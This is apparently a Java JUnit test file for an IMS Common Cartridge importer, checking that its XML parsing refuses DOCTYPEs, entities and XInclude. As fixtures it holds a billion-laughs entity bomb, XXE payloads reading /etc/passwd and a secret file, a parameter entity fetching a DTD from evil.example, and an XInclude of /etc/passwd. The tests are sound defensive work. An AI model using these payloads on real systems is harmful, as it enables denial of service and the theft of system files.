package org.bilim.courses.cartridge;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The manifest and every resource's XML are parsed with DOCTYPEs, entities and XInclude refused. */
class XmlDefencesTest {
    private static final String SECRET = "TOP-SECRET-MARKER-7731";

    @TempDir
    Path temp;
    Fixture fixture;
    Path secretFile;

    @BeforeEach
    void setUp() throws Exception {
        fixture = new Fixture(temp);
        secretFile = Files.writeString(temp.resolve("secret.txt"), SECRET);
    }

    private static final String BILLION_LAUGHS = """
            <?xml version="1.0"?>
            <!DOCTYPE manifest [
              <!ENTITY lol "lol">
              <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
              <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
              <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
              <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
              <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
              <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            <manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1">
              <metadata><lom><general><title><string>&lol9;</string></title></general></lom></metadata>
              <organizations/><resources/>
            </manifest>
            """;

    @Test
    void billionLaughsInTheManifestIsRefused() throws Exception {
        Path archive = CartridgeBuilder.cc("1.1").manifest(BILLION_LAUGHS).write(fixture.archives);

        ImportRefused e = fixture.refused(archive, Refusal.XML_FORBIDDEN);

        assertThat(e.details()).containsEntry("path", "imsmanifest.xml");
    }

    @Test
    void anExternalEntityInTheManifestIsRefusedAndNothingIsRead() throws Exception {
        String xxe = """
                <?xml version="1.0"?>
                <!DOCTYPE manifest [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY secret SYSTEM "%s"> ]>
                <manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1">
                  <metadata><lom><general><title><string>&xxe;&secret;</string></title></general></lom></metadata>
                  <organizations/><resources/>
                </manifest>
                """.formatted(secretFile.toUri());
        Path archive = CartridgeBuilder.cc("1.1").manifest(xxe).write(fixture.archives);

        ImportRefused e = fixture.refused(archive, Refusal.XML_FORBIDDEN);

        assertThat(e.toString()).doesNotContain(SECRET).doesNotContain("root:");
        assertThat(e.details().toString()).doesNotContain(SECRET);
    }

    @Test
    void anExternalParameterEntityIsRefused() throws Exception {
        String xxe = """
                <?xml version="1.0"?>
                <!DOCTYPE manifest [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>
                <manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1"><resources/></manifest>
                """;

        fixture.refused(CartridgeBuilder.cc("1.1").manifest(xxe).write(fixture.archives), Refusal.XML_FORBIDDEN);
    }

    @Test
    void anXxeInAQuizIsRefusedBeforeAnyFileIsStored() throws Exception {
        String qti = """
                <?xml version="1.0"?>
                <!DOCTYPE questestinterop [ <!ENTITY xxe SYSTEM "%s"> ]>
                <questestinterop><assessment ident="a" title="&xxe;"><section ident="s"/></assessment></questestinterop>
                """.formatted(secretFile.toUri());
        Path archive = CartridgeBuilder.cc("1.1")
                .web("img", "files/pic.png", new byte[] {1, 2, 3})
                .web("page", "page.html", "<p><img src=\"files/pic.png\"></p>")
                .file("quiz/assessment.xml", qti)
                .resource("quiz", "imsqti_xmlv1p2/imscc_xmlv1p1/assessment", null, List.of("quiz/assessment.xml"))
                .module(CartridgeBuilder.heading("m", "Week 1", CartridgeBuilder.item("i1", "Page", "page"),
                        CartridgeBuilder.item("i2", "Quiz", "quiz")))
                .write(fixture.archives);

        ImportRefused e = fixture.refused(archive, Refusal.XML_FORBIDDEN);

        assertThat(e.details()).containsEntry("resource", "quiz").containsEntry("path", "quiz/assessment.xml");
        assertThat(e.toString()).doesNotContain(SECRET);
    }

    @Test
    void xincludeIsRefused() throws Exception {
        String manifest = """
                <?xml version="1.0"?>
                <manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1"
                          xmlns:xi="http://www.w3.org/2001/XInclude">
                  <xi:include href="file:///etc/passwd" parse="text"/>
                  <organizations/><resources/>
                </manifest>
                """;

        fixture.refused(CartridgeBuilder.cc("1.1").manifest(manifest).write(fixture.archives), Refusal.XML_FORBIDDEN);
    }

    @Test
    void aManifestThatIsNotXmlIsInvalid() throws Exception {
        Path archive = CartridgeBuilder.cc("1.1").manifest("<manifest><resources></manifest>").write(fixture.archives);

        fixture.refused(archive, Refusal.MANIFEST_INVALID);
    }

    @Test
    void aManifestWithoutResourcesIsInvalid() throws Exception {
        String manifest = "<manifest identifier=\"m\" xmlns=\"http://www.imsglobal.org/xsd/imsccv1p2/imscp_v1p1\"/>";

        fixture.refused(CartridgeBuilder.cc("1.2").manifest(manifest).write(fixture.archives), Refusal.MANIFEST_INVALID);
    }

    @Test
    void aScormPackageIsNotACartridge() throws Exception {
        String manifest = """
                <manifest identifier="scorm" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2">
                  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
                  <organizations/><resources/>
                </manifest>
                """;

        ImportRefused e = fixture.refused(CartridgeBuilder.cc("1.1").manifest(manifest).write(fixture.archives),
                Refusal.UNSUPPORTED_VERSION);

        assertThat(e.details()).containsEntry("schema", "ADL SCORM").containsEntry("schemaversion", "1.2");
    }

    @Test
    void aQuizThatIsNotWellFormedIsABrokenResource() throws Exception {
        Path archive = CartridgeBuilder.cc("1.3")
                .web("page", "page.html", "<p>Hi</p>")
                .file("q.xml", "<questestinterop><assessment>")
                .resource("quiz", "imsqti_xmlv1p2/imscc_xmlv1p3/assessment", null, List.of("q.xml"))
                .module(CartridgeBuilder.heading("m", "Week 1", CartridgeBuilder.item("i1", "Page", "page"),
                        CartridgeBuilder.item("i2", "Quiz", "quiz")))
                .write(fixture.archives);

        ImportRefused e = fixture.refused(archive, Refusal.BROKEN_RESOURCE);

        assertThat(e.details()).containsAllEntriesOf(Map.of("resource", "quiz", "path", "q.xml"));
    }
}
